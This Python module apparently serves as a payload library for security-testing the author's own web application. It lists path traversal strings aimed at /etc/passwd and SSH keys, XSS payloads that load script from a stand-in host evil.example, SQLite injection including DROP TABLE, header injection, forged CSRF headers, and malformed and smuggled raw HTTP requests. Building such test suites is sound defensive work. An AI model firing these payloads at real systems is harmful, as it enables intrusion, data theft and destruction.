"""Five hundred payloads for a web page, by what they attack. Texts go to every parameter of every
route; headers with every route; whole requests to the wire as they are."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from urllib.parse import quote

from hostile_texts import BREAKS, CONTROL, FORMATS, LOOKALIKES, NUMBERS, SPACES, UNSEEN

CANARY = "VQI-CANARY-7f3a"
"""Lies in a file beside the station's folders: nobody may ever read it through the page."""
MARK = "vqix"
"""Part of each script that is smuggled: a dialog or a line on the console that has it is a hit."""


@dataclass(frozen=True, slots=True)
class Text:
    """One text, for a part of a path, a value of a query, a field of a form, a value of JSON."""

    kind: str
    text: str


@dataclass(frozen=True, slots=True)
class Headers:
    """Headers that a browser on a hostile page, or a hostile program, sends with a request."""

    kind: str
    headers: tuple[tuple[str, str], ...]


@dataclass(frozen=True, slots=True)
class Wire:
    """Bytes as they go to the socket; `{host}` stands for the station's own host and port."""

    kind: str
    request: bytes


_SECRETS = ("etc/passwd", "canary.txt", "journal.db", "proc/self/environ")
_CLIMBS = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%c0%af", "..\\", "....//", "..;/")


def _traversal() -> list[str]:
    """Climbs out of a folder in every spelling; absolute paths; schemes; devices."""
    climbs = [step * 6 + secret for step in _CLIMBS for secret in _SECRETS]
    plain = (
        "/etc/passwd",
        "//etc/passwd",
        "file:///etc/passwd",
        "/proc/self/root/etc/passwd",
        "/dev/zero",
        "/dev/stdin",
        "..",
        ".",
        "./.",
        "~root/.ssh/id_rsa",
        "\\\\evil.example\\share\\x",
        "C:\\windows\\win.ini",
        "php://filter/resource=/etc/passwd",
        "journal.db\x00.png",
        "a/../../../../etc/passwd",
        "images/../journal.db",
        "%00",
        "..%00/etc/passwd",
        "evidence.png/../../journal.db",
        "....\\\\....\\\\etc\\\\passwd",
    )
    return climbs + list(plain)


_SCRIPTS = (
    "<script>alert('vqix')</script>",
    "<ScRiPt>alert('vqix')</sCrIpT>",
    "<script src=//evil.example/vqix.js></script>",
    "<script type=module>import('//evil.example/vqix.js')</script>",
    "<img src=x onerror=alert('vqix')>",
    "<img src=x onerror=console.error('vqix')//",
    "<svg onload=alert('vqix')>",
    "<svg><animate onbegin=alert('vqix') attributeName=x dur=1s>",
    "<svg><script>alert('vqix')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('vqix')>",
    "<body onload=alert('vqix')>",
    "<iframe src=javascript:alert('vqix')></iframe>",
    "<iframe srcdoc='<script>alert(`vqix`)</script>'></iframe>",
    "<object data=javascript:alert('vqix')>",
    "<embed src=javascript:alert('vqix')>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`vqix`)'>",
    "<link rel=stylesheet href=//evil.example/vqix.css>",
    "<style>@import '//evil.example/vqix.css';</style>",
    "<form action=//evil.example/><button>vqix</button>",
    "<input autofocus onfocus=alert('vqix')>",
    "<details open ontoggle=alert('vqix')>",
    "<video><source onerror=alert('vqix')>",
    "<audio src=x onerror=alert('vqix')>",
    "<marquee onstart=alert('vqix')>",
    "<a href=javascript:alert('vqix')>x</a>",
    "<a href='jav&#x09;ascript:alert(`vqix`)'>x</a>",
    "<button formaction=javascript:alert('vqix')>x</button>",
    "<div hx-get=//evil.example/vqix hx-trigger=load>x</div>",
    "<div hx-on::load=alert('vqix')>x</div>",
    "<div data-hx-get=/vqix data-hx-trigger=load>x</div>",
    "<template><script>alert('vqix')</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`vqix`)>'>",
    "<!--><img src=x onerror=alert('vqix')>-->",
    "<x style='background:url(//evil.example/vqix)'>",
    "<portal src=//evil.example/vqix>",
    "{{constructor.constructor('alert(`vqix`)')()}}",
    "{{7*7}}{{config}}{{self.__init__.__globals__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}vqix{% endfor %}",
    "${alert('vqix')}",
    "javascript:alert('vqix')",
    "JaVaScRiPt:alert('vqix')",
    "java\tscript:alert('vqix')",
    "data:text/html,<script>alert('vqix')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgndnFpeCcpPC9zY3JpcHQ+",
    "vbscript:msgbox('vqix')",
    "//evil.example/vqix",
    "/\\evil.example/vqix",
    "https://evil.example/vqix",
    "\\u003cscript\\u003ealert('vqix')\\u003c/script\\u003e",
)
_BREAK_OUTS = ("\"'>", "</title>", "</script>", "</textarea>")


def _markup() -> list[str]:
    """Scripts by every door that HTML has, alone and after what ends an attribute or element."""
    out = [end + script for end in _BREAK_OUTS for script in _SCRIPTS]
    handlers = (
        "\" onmouseover=alert('vqix') x=\"",
        "' onfocus=alert('vqix') autofocus x='",
        "x onpointerenter=alert('vqix')",
        "`onload=alert('vqix')`",
        '" style="background:url(\'//evil.example/vqix\')" x="',
        '"><svg/onload=alert(`vqix`)>',
        "'-alert('vqix')-'",
        "\\'-alert('vqix')//",
        "</style><script>alert('vqix')</script>",
        "]]><script>alert('vqix')</script>",
        "\ufeff<script>alert('vqix')</script>",
        "＜script＞alert('vqix')＜/script＞",
        "+ADw-script+AD4-alert('vqix')+ADw-/script+AD4-",
        "%3Cscript%3Ealert('vqix')%3C/script%3E",
        "&lt;script&gt;alert('vqix')&lt;/script&gt;",
        "\x00<script>alert('vqix')</script>",
    )
    return list(_SCRIPTS) + out + list(handlers)


def _sql() -> list[str]:
    """Ends of a statement and of a pattern, for SQLite, and what makes a query long."""
    bases = (
        "' OR '1'='1",
        "'; DROP TABLE row; --",
        '" OR 1=1 --',
        "1); DELETE FROM row; --",
        "' UNION SELECT body FROM row --",
        "' UNION SELECT sql FROM sqlite_master --",
        "1 OR randomblob(1000000000)",
        "' AND 1=randomblob(100000000) --",
        "'; ATTACH DATABASE '/tmp/vqix.db' AS x; --",
        "'; PRAGMA writable_schema=1; --",
        "load_extension('/tmp/vqix.so')",
        "' || (SELECT hex(zeroblob(100000000))) || '",
        "1;SELECT 1",
        "seq; DROP VIEW result",
        "seq DESC, (SELECT body FROM row LIMIT 1)",
        "CASE WHEN 1=1 THEN seq ELSE -seq END",
        "%' OR '%'='",
        "_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%",
        "*" * 200,
        "[" * 200,
        "'" * 101,
        "\\' OR 1=1 --",
        "0x27204f5220313d31",
        "1/**/OR/**/1=1",
        "' OR 1=1 LIMIT 1 OFFSET 1 --",
        "ʼ OR ʼ1ʼ=ʼ1",
        "' GLOB '*' --",
        "' MATCH 'x' --",
        "a' COLLATE NOCASE --",
        "$.x') FROM row --",
        "'); VACUUM INTO '/tmp/vqix.db'; --",
        "1e999",
        "-1",
        "9223372036854775808",
        "NULL",
    )
    return list(bases)


def _injected_headers() -> list[str]:
    """Texts that would end a header of the answer and begin another."""
    ends = (
        "\r\n",
        "\n",
        "\r",
        "%0d%0a",
        "%0a",
        "\u010d\u010a",
        "\x85",
        "\u2028",
        "%E5%98%8A%E5%98%8D",
    )
    added = ("X-Vqix: 1", "Set-Cookie: vqix=1", "Location: https://evil.example/vqix")
    return [f"x{end}{line}" for end in ends for line in added]


def _sizes() -> list[str]:
    return [
        "A" * 300,
        "A" * 8_000,
        "é" * 3_000,
        "😀" * 2_000,
        "9" * 400,
        "a\u0301" * 1_500,
        "-" + "9" * 30,
        "1" + "0" * 308,
        "[" * 2_000,
        "{" * 2_000,
        '{"a":' * 500,
        "A," * 3_000,
    ]


def texts() -> list[Text]:
    """Every text, each once."""
    by_kind = {
        "traversal": _traversal(),
        "markup": _markup(),
        "sql": _sql(),
        "header": _injected_headers(),
        "size": _sizes(),
        "unicode": [*UNSEEN, *LOOKALIKES, *CONTROL, *BREAKS, *SPACES],
        "number": list(NUMBERS),
        "format": list(FORMATS),
    }
    seen: dict[str, str] = {}
    for kind, those in by_kind.items():
        for text in those:
            seen.setdefault(text, kind)
    return [Text(kind, text) for text, kind in seen.items()]


_EVIL = (
    "https://evil.example",
    "http://127.0.0.1.evil.example",
    "null",
    "file://",
    "http://[::1]:1",
)


def forged() -> list[Headers]:
    """What comes with a form that another site sends, and with no token: an action must refuse."""
    origins = [(("origin", origin),) for origin in _EVIL]
    referers = [(("referer", f"{origin}/x"),) for origin in _EVIL[:2]]
    sites = [
        (("sec-fetch-site", site), ("origin", _EVIL[0])) for site in ("cross-site", "same-site")
    ]
    kinds = [
        (("content-type", content), ("origin", _EVIL[0]))
        for content in ("text/plain", "application/json", "multipart/form-data; boundary=x")
    ]
    odd = [
        (("x-http-method-override", "DELETE"), ("origin", _EVIL[0])),
        (("x-forwarded-host", "evil.example"), ("origin", _EVIL[0])),
        (("x-csrf-token", "undefined"), ("origin", _EVIL[0])),
        (("x-csrf-token", "0" * 64), ("origin", _EVIL[0])),
        (("hx-request", "true"), ("origin", _EVIL[0])),
        (("authorization", "Basic YWRtaW46YWRtaW4="),),
        (("authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),),
        (("cookie", "__Host-session=" + "0" * 64),),
        (("cookie", "session=admin; role=ADMIN"),),
        (("cookie", "__Host-vqi=../../../etc/passwd"),),
    ]
    return [Headers("csrf", one) for one in [*origins, *referers, *sites, *kinds, *odd]]


def rebound() -> list[Headers]:
    """Hosts that are not the station's: a name that was rebound to its address, and tricks."""
    hosts = (
        "evil.example",
        "evil.example:80",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "evil.example#127.0.0.1",
        "127.0.0.1@evil.example",
        "[::ffff:evil]",
        "0.0.0.0",
        "0",
        "2130706433.evil.example",
        "локалхост",
        "localhost\u3002evil.example",
        "a" * 300,
        "../../etc/passwd",
        "<script>alert('vqix')</script>",
        "",
    )
    return [Headers("host", (("host", host),)) for host in hosts]


_SMUGGLED = (
    b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /vqix HTTP/1.1\r\n\r\n"
)


def wire() -> list[Wire]:
    """Requests that no client library would write."""
    get = b"GET / HTTP/1.1\r\nHost: {host}\r\n"
    post = b"POST / HTTP/1.1\r\nHost: {host}\r\n"
    requests = (
        b"\x00" * 64,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,
        b"GET\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET  /  HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"GET //evil.example/ HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /static//etc/passwd HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /static/..%5c..%5cetc%5cpasswd HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"TRACE / HTTP/1.1\r\nHost: {host}\r\nCookie: vqix\r\n\r\n",
        b"DELETE / HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"PUT /static/vqix.html HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\n\r\nvqix",
        b"OPTIONS * HTTP/1.1\r\nHost: {host}\r\nOrigin: https://evil.example\r\n\r\n",
        get + b"Host: evil.example\r\n\r\n",
        get + b"X: " + b"a" * 200_000 + b"\r\n\r\n",
        get + b"".join(b"X-%d: 1\r\n" % n for n in range(5_000)) + b"\r\n",
        get + b"Cookie: " + b"a=b; " * 5_000 + b"\r\n\r\n",
        get + b"Range: bytes=" + b"0-1," * 2_000 + b"0-1\r\n\r\n",
        get + b"Accept-Language: " + b"de;q=0.1," * 2_000 + b"\r\n\r\n",
        get + b"X\x00Y: 1\r\n\r\n",
        get + b"X : 1\r\n\r\n",
        get + b" folded: 1\r\n\r\n",
        post + b"Content-Length: 99999999999\r\n\r\n",
        post + b"Content-Length: -1\r\n\r\n",
        post + b"Content-Length: 4\r\nContent-Length: 5\r\n\r\nvqix!",
        post + _SMUGGLED,
        post + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\n",
        post + b"Transfer-Encoding: xchunked\r\n\r\n4\r\nvqix\r\n0\r\n\r\n",
        post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n",
        post + b"Expect: 100-continue\r\nContent-Length: 10\r\n\r\n",
        post + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n\r\n",
        get + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: {host}\r\n\r\n",
        b"GET /?" + b"a=1&" * 50_000 + b" HTTP/1.1\r\nHost: {host}\r\n\r\n",
    )
    return [Wire("wire", request) for request in requests]


def in_path(text: str) -> str:
    """A text as one part of a path: as a client sends it that encodes what must be."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="%.\\;:@!$&'()*+,=~-_")


def counted() -> Counter[str]:
    """How many payloads there are of each kind."""
    return Counter(one.kind for one in [*texts(), *forged(), *rebound(), *wire()])
